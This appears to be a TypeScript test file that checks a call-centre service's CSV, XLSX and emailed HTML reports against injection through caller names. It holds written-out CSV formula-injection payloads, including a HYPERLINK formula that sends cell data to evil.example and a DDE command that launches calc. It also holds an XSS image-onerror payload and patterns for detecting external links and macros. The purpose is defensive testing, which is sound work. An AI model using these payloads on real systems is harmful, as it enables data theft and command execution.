// Threat T24: names that callers and colleagues chose, in every file that somebody opens in a spreadsheet, and in the mail of the report.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSqlite } from '../../src/storage/sqlite/sqlite.ts';
import { type MailServer, startMailServer } from '../support/mail-server.ts';
import { callRow } from '../support/payload.ts';
import { call, type Service, startService, TOKEN } from '../support/service.ts';
import { unzip } from '../support/zip.ts';

/** What a spreadsheet would calculate or run, at the beginning of a cell or behind what another country's spreadsheet separates by. */
const FORMULAS = [
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '＝1+1',
  "=cmd|' /C calc'!A0",
  'x;=1+1',
  'x";=1+1',
  ';;@SUM(A1)',
  "'=1+1",
];
const MARKUP = '<img src=x onerror=alert(1)><a href="http://evil.example">x</a>';
const SPAN = 'from=2026-11-11&to=2026-11-12&timezone=UTC';
const DAY_MS = 86_400_000;

let service: Service;
let mail: MailServer;
beforeAll(async () => {
  mail = await startMailServer();
  service = await startService({ env: { SMTP_URL: mail.url, MAIL_FROM: 'dialtree@example.com' } });
  const storage = await openSqlite(service.dataDir);
  const accountId = (await storage.listAccounts())[0]?.id ?? '';
  const yesterday = new Date(Date.now() - DAY_MS).setUTCHours(12, 0, 0, 0);
  const named = async (name: string, at: number, startedAtMs: number) => {
    const [agent, department] = [`a${at}`, `d${at}`];
    for (const [kind, body] of [
      ['agent', { name, eid: agent }],
      ['department', { name, id: department, agents: [agent] }],
    ] as const) {
      const made = await call(service.url, 'POST', `/v1/${kind}`, { body });
      expect(made.status, made.text).toBe(201);
    }
    const trail = [
      { atMs: 0, node: `department||${department}`, code: 'arrived', text: '' },
      { atMs: 1_000, node: `extension||${agent}`, code: 'connected', text: '' },
    ];
    return callRow({
      accountId,
      id: `c${at}`,
      startedAtMs,
      endedAtMs: startedAtMs + 60_000,
      caller: name,
      dialled: name,
      entry: `department||${department}`,
      answeredBy: agent,
      talkMs: 50_000,
      endCode: 'agent-hung-up',
      json: JSON.stringify({ trail, caller_name: name }),
    });
  };
  const calls = [];
  for (const [at, name] of FORMULAS.entries())
    calls.push(await named(name, at, Date.parse('2026-11-11T10:00:00Z') + at));
  calls.push(await named(MARKUP, FORMULAS.length, yesterday));
  await storage.saveCalls({ calls });
  await storage.close();
});
afterAll(async () => {
  await service?.remove();
  await mail?.close();
});

/** The cells as a spreadsheet has them that separates by `separator`. RFC 4180 quotes count at the beginning of a cell alone. */
function cellsOf(text: string, separator: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    let value = '';
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') value += text[at];
        else if (text[at + 1] === '"') value += text[++at];
        else break;
      }
      at++;
    }
    while (at < text.length && !`${separator}\r\n`.includes(text[at] ?? '')) value += text[at++];
    cells.push(value);
    at++;
  }
  return cells;
}

describe.each([
  ['comma', ','],
  ['semicolon', ';'],
  ['tab', '\t'],
])('a spreadsheet that separates by %s', (_, separator) => {
  it.each([
    '/v1/call/records.csv',
    '/v1/call/records.csv?timezone=UTC',
    `/v1/statistics.csv?${SPAN}`,
    `/v1/statistics.csv?${SPAN}&table=departments`,
    `/v1/statistics.csv?${SPAN}&table=agents`,
  ])('calculates no cell of %s', async (path) => {
    const { text, status } = await call(service.url, 'GET', path);
    expect(status).toBe(200);
    if (/records|departments|agents/.test(path)) expect(text).toContain('SUM(A1)');
    // A negative figure of ours is one.
    const risky = cellsOf(text, separator).filter((one) => /^[=+\-@\t\r\n＝＋－＠](?!\d+$)/.test(one));
    expect(risky).toEqual([]);
  });
});

it.each([`/v1/statistics.xlsx?${SPAN}`, '/v1/call/records.xlsx?timezone=UTC'])(
  'the workbook %s has text and figures: no formula, no link, nothing from outside',
  async (path) => {
    const answer = await fetch(service.url + path, { headers: { authorization: `Bearer ${TOKEN}` } });
    expect(answer.status).toBe(200);
    const files = unzip(Buffer.from(await answer.arrayBuffer()));
    const all = [...files.values()].join('\n');
    expect(all).toContain('=HYPERLINK("http://evil.example?"&amp;A1');
    expect(all).toContain('@SUM(A1)');
    expect(
      [...files.keys()].filter((name) => /external|vba|macro|connections|query|embed/i.test(name)),
    ).toEqual([]);
    expect(all).not.toMatch(/<f[ >/]|<hyperlink|TargetMode="External"|<ddeLink|<oleLink/);
    // Names are cells of the type of text.
    for (const [name, sheet] of files)
      if (/worksheets\/sheet\d+\.xml$/.test(name))
        for (const [, type] of sheet.matchAll(/<c (?:[^>]*\bt="(\w+)")?[^>]*>/g))
          expect(['s', 'n', 'd', 'inlineStr', undefined]).toContain(type);
  },
);

it('names in the report by mail are text in its HTML: no image, no link, no other tag', async () => {
  const sent = await call(service.url, 'POST', '/v1/report/send', { body: { to: 'boss@example.com' } });
  expect(sent.status, sent.text).toBe(200);
  const source = await mail.received((text) => text.includes('Subject: Calls of'));
  const [, html = ''] = /(<!doctype html>[\s\S]*<\/html>)/.exec(source) ?? [];
  expect(html).toContain('onerror');
  const tags = new Set([...html.matchAll(/<\/?([a-z][\w]*)/gi)].map(([, tag = '']) => tag));
  const ours = [
    'html',
    'head',
    'meta',
    'title',
    'body',
    'h1',
    'h2',
    'p',
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
  ];
  expect([...tags].filter((tag) => !ours.includes(tag))).toEqual([]);
});
